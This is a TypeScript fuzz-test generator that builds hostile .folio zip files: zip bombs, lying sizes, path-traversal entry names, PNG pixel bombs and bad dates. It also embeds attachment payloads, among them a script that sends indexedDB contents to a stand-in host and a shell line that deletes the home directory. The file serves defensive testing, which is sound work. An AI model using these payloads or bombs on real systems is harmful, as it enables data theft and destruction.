import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import fc from 'fast-check';
import { deflateSync, strFromU8, strToU8, unzipSync } from 'fflate';
import { encodePng } from '../../src/domain/png';
import { encodeFolio } from '../../src/domain/portfolio-file';
import type { PortfolioSnapshot } from '../../src/domain/snapshot';
import { buildZip, type RawEntry } from './raw-zip';

/**
 * Hostile .folio files, generated: each kind is a way a file from anyone might try to hurt the app
 * (lying sizes, overlapping and duplicate entries, bad names, MIME lies, pixel bombs, impossible
 * dates, bit flips). Each case says what the app must do with it.
 */
export type Hostile =
  /** Must be refused whole, with a named reason. */
  | { expect: 'refused'; label: string; bytes: Uint8Array }
  /** Must open, but with these attachments refused and absent from the portfolio. */
  | { expect: 'attachments-refused'; label: string; bytes: Uint8Array; attachmentIds: string[] }
  /** Must open, and the PDF must not decode this image's pixels. */
  | { expect: 'not-decoded'; label: string; bytes: Uint8Array; attachmentId: string }
  /** Random damage: refused, or (where it hit bytes nothing reads) the very same portfolio. */
  | { expect: 'refused-or-same'; label: string; bytes: Uint8Array };

type Json = Record<string, unknown>;

/** A good file taken apart, so that a case can change one thing and zip it again honestly. */
export interface FolioParts {
  manifest: Json;
  data: Json;
  attachments: Map<string, Uint8Array>;
}

export interface Base {
  snapshot: PortfolioSnapshot;
  good: Uint8Array;
  /** 64 MiB of zeros as one deflate stream of about 64 KB: more than any entry may unpack to. */
  bombStream: Uint8Array;
  bombSize: number;
}

export async function makeBase(snapshot: PortfolioSnapshot): Promise<Base> {
  const good = await encodeFolio(snapshot, { appVersion: '0.1.0-fuzz', now: '2026-11-22T14:05:00.000Z' });
  const bombSize = 64 * 1024 * 1024;
  return { snapshot, good, bombStream: deflateSync(new Uint8Array(bombSize), { level: 9 }), bombSize };
}

function partsOf(base: Base): FolioParts {
  const files = unzipSync(base.good);
  const attachments = new Map<string, Uint8Array>();
  for (const [path, bytes] of Object.entries(files)) if (path.startsWith('attachments/')) attachments.set(path, bytes);
  const json = (path: string) => JSON.parse(strFromU8(files[path] ?? new Uint8Array())) as Json;
  return { manifest: json('manifest.json'), data: json('portfolio.json'), attachments };
}

/** The entries of a file with honest checksums for whatever the parts now hold. */
function honestEntries(parts: FolioParts): RawEntry[] {
  const dataBytes = strToU8(JSON.stringify(parts.data));
  const listed: Record<string, { sha256: string; size: number }> = {
    'portfolio.json': { sha256: sha256(dataBytes), size: dataBytes.length },
  };
  for (const [path, bytes] of parts.attachments) listed[path] = { sha256: sha256(bytes), size: bytes.length };
  const { extraEntries, ...rest } = parts.manifest;
  const manifest = { ...rest, entries: { ...listed, ...(extraEntries as Json | undefined) } };
  return [
    { name: 'manifest.json', content: strToU8(JSON.stringify(manifest)) },
    { name: 'portfolio.json', content: dataBytes },
    ...[...parts.attachments].map(([name, content]): RawEntry => ({ name, content, method: 0 })),
  ];
}

const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

const rows = (data: Json, table: string): Json[] => data[table] as Json[];

function withAttachment(base: Base, index: number, bytes: Uint8Array, type: string): { bytes: Uint8Array; id: string } {
  const parts = partsOf(base);
  const records = rows(parts.data, 'attachments');
  const record = records[index % records.length];
  if (!record) throw new Error('The base portfolio needs attachments.');
  record.type = type;
  record.size = bytes.length;
  record.sha256 = sha256(bytes);
  parts.attachments.set(`attachments/${String(record.id)}`, bytes);
  return { bytes: buildZip(honestEntries(parts)), id: String(record.id) };
}

/** What an attacker might put in an attachment and call something harmless. */
const activeContent = fc.constantFrom(
  '<!doctype html><script>indexedDB.databases().then(d=>fetch("//x/"+JSON.stringify(d)))</script>',
  '<html><body onload="alert(1)"></body></html>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  'MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000',
  '\u007fELF\u0002\u0001\u0001\u0000',
  '#!/bin/sh\nrm -rf ~\n',
);
const harmlessType = fc.constantFrom('image/png', 'image/jpeg', 'application/pdf', 'text/plain', 'text/csv', 'text/html', 'image/svg+xml', 'application/octet-stream');

/** Names no entry of a .folio may have. */
const badName = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'attachments/__proto__', '../portfolio.json', 'attachments/../../etc/passwd', '/etc/passwd', 'attachments\\x', 'C:/x', 'attachments//x', 'attachments/./x', ''),
  fc.tuple(fc.integer({ min: 0, max: 31 }), fc.string({ maxLength: 10 })).map(([c, s]) => `attachments/${s}${String.fromCharCode(c)}x`),
);

const badDay = fc.constantFrom('2026-02-30', '2025-02-29', '2026-04-31', '2026-13-01', '2026-00-10', '2026-2-3', '1');
const badInstant = fc.constantFrom('1', '2026-11-22', '2026-11-22T25:00:00Z', '2026-02-30T10:00:00Z', 'yesterday', '2026-11-22T10:00:00');

/** One generator per kind of attack, by name, so a test can take them all at once or one of each. */
export function hostileKinds(base: Base): Record<string, fc.Arbitrary<Hostile>> {
  const lyingSize = fc
    .record({ entry: fc.constantFrom(0, 1, 2), lie: fc.oneof(fc.integer({ min: 0, max: 64 }), fc.integer({ min: 1 << 20, max: 0xffffffff })) })
    .map(({ entry, lie }): Hostile => {
      const entries = honestEntries(partsOf(base));
      const target = entries[entry % entries.length];
      if (target && lie !== target.content.length) target.declaredSize = lie;
      else if (target) target.declaredSize = lie + 1;
      return { expect: 'refused', label: `declared size ${lie} for ${String(target?.name)}`, bytes: buildZip(entries) };
    });

  const bomb = fc
    .record({ path: fc.constantFrom('portfolio.json', 'manifest.json', 'attachments/x'), declared: fc.integer({ min: 1, max: 100_000 }) })
    .map(({ path, declared }): Hostile => {
      const entries = (honestEntries(partsOf(base))).filter((e) => e.name !== path);
      const zipped = [...entries, { name: path, content: new Uint8Array(declared), stream: base.bombStream, declaredSize: declared }];
      return { expect: 'refused', label: `${path} declared ${declared} bytes, inflates to ${base.bombSize}`, bytes: buildZip(zipped) };
    });

  const overlapping = fc.integer({ min: 2, max: 300 }).map((copies): Hostile => {
    const entries = honestEntries(partsOf(base));
    const first = entries.length;
    entries.push({ name: 'attachments/bomb-0', content: new Uint8Array(10_000_000), stream: base.bombStream, declaredSize: 10_000_000 });
    for (let i = 1; i < copies; i += 1) entries.push({ name: `attachments/bomb-${i}`, content: new Uint8Array(0), stream: base.bombStream, declaredSize: 10_000_000, sameDataAs: first });
    return { expect: 'refused', label: `${copies} entries over one bomb stream`, bytes: buildZip(entries) };
  });

  const duplicate = fc.constantFrom(0, 1, 2).map((index): Hostile => {
    const entries = honestEntries(partsOf(base));
    const original = entries[index % entries.length];
    if (original) entries.push({ ...original });
    return { expect: 'refused', label: `two entries named ${String(original?.name)}`, bytes: buildZip(entries) };
  });

  const badlyNamed = badName.map((name): Hostile => {
    const entries = honestEntries(partsOf(base));
    entries.push({ name, content: strToU8('{}') });
    return { expect: 'refused', label: `an entry named ${JSON.stringify(name)}`, bytes: buildZip(entries) };
  });

  const missingEntry = fc.constant(null).map((): Hostile => {
    const parts = partsOf(base);
    parts.manifest.extraEntries = { 'attachments/not-here': { sha256: '0'.repeat(64), size: 10 } };
    return { expect: 'refused', label: 'the manifest lists an entry the zip lacks', bytes: buildZip(honestEntries(parts)) };
  });

  const mimeLie = fc.record({ index: fc.nat(), content: activeContent, type: harmlessType }).map(({ index, content, type }): Hostile => {
    const { bytes, id } = withAttachment(base, index, strToU8(content, true), type);
    return { expect: 'attachments-refused', label: `${type} holding ${JSON.stringify(content.slice(0, 20))}`, bytes, attachmentIds: [id] };
  });

  const pixelBomb = fc
    .record({ index: fc.nat(), width: fc.integer({ min: 12_001, max: 65_535 }), height: fc.integer({ min: 12_001, max: 65_535 }) })
    .map(({ index, width, height }): Hostile => {
      const { bytes, id } = withAttachment(base, index, pngClaiming(width, height), 'image/png');
      return { expect: 'not-decoded', label: `a PNG declaring ${width} × ${height} pixels`, bytes, attachmentId: id };
    });

  const impossibleDate = fc
    .record({ where: fc.constantFrom('evidence.date', 'portfolio.startDate', 'evidence.createdAt', 'audit.at', 'portfolio.updatedAt'), day: badDay, instant: badInstant })
    .map(({ where, day, instant }): Hostile => {
      const parts = partsOf(base);
      const [table, field] = where.split('.') as [string, string];
      const isDay = field === 'date' || field === 'startDate';
      const target = table === 'portfolio' ? (parts.data.portfolio as Json) : rows(parts.data, table)[0];
      if (target) target[field] = isDay ? day : instant;
      return { expect: 'refused', label: `${where} = ${isDay ? day : instant}`, bytes: buildZip(honestEntries(parts)) };
    });

  const bitFlip = fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 7 })), { minLength: 1, maxLength: 8 }).map((flips): Hostile => {
    const bytes = base.good.slice();
    for (const [at, bit] of flips) {
      const i = at % bytes.length;
      bytes[i] = (bytes[i] ?? 0) ^ (1 << bit);
    }
    return { expect: 'refused-or-same', label: `bits flipped at ${flips.map(([at]) => at % bytes.length).join(', ')}`, bytes };
  });

  const kinds = { lyingSize, bomb, overlapping, duplicate, badlyNamed, missingEntry, mimeLie, pixelBomb, impossibleDate, bitFlip };
  // A failing case prints as its label, not as thousands of bytes.
  return Object.fromEntries(Object.entries(kinds).map(([name, arb]) => [name, arb.map((h) => Object.assign(h, { [fc.toStringMethod]: () => `${name}: ${h.label}` }))]));
}

export function hostileArb(base: Base): fc.Arbitrary<Hostile> {
  return fc.oneof(...Object.values(hostileKinds(base)));
}

/** A real PNG header claiming a huge size, followed by a tiny image stream: what a pixel bomb looks like. */
export function pngClaiming(width: number, height: number): Uint8Array {
  const png = encodePng(2, 2, new Uint8Array(12));
  const out = png.slice();
  const view = new DataView(out.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  // The header's CRC covers the size; recompute it, so only the size is a lie, not the file's shape.
  view.setUint32(29, crc32(out.subarray(12, 29)));
  return out;
}
